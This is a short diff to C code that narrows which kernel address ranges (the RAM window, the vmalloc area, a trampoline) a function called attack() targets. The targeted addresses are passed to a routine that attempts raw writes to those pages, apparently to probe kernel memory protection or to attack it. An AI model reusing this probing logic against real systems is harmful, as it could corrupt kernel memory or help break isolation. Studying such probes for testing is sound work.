@@ -12,6 +12,12 @@ static u32 is_own(u32 page, u32 stack)
     return (page >= 0x40000000 && page <= ((u32)last_byte | (PAGE - 1))) || (page >= stack - 0x100000 && page < stack);
 }
 
+/* Where the kernel has pages: its window on all RAM, and its vmalloc area, in either layout; and the trampoline. */
+ANY u32 is_busy(u32 address)
+{
+    return address % 0xc0000000 < 0x05000000 || address % 0xc0000000 - 0x3a000000 < 0x01000000 || address >= TRAMPOLINE;
+}
+
 static void try_page(u32 address, u32 all_ways)
 {
     static const u8 write[] = {0x88, 0x03};
@@ -42,7 +48,7 @@ void attack(void)
 #ifdef SAMPLE
         u32 worth = large || random_number() % 512 == 0;
 #else
-        u32 worth = address % 0x10000 == 0 || address >= 0xc0000000 || address < 0x10000000;
+        u32 worth = address % 0x10000 == 0 || is_busy(address);
 #endif
         if (worth && !is_own(address, stack))
             try_page(address, large);
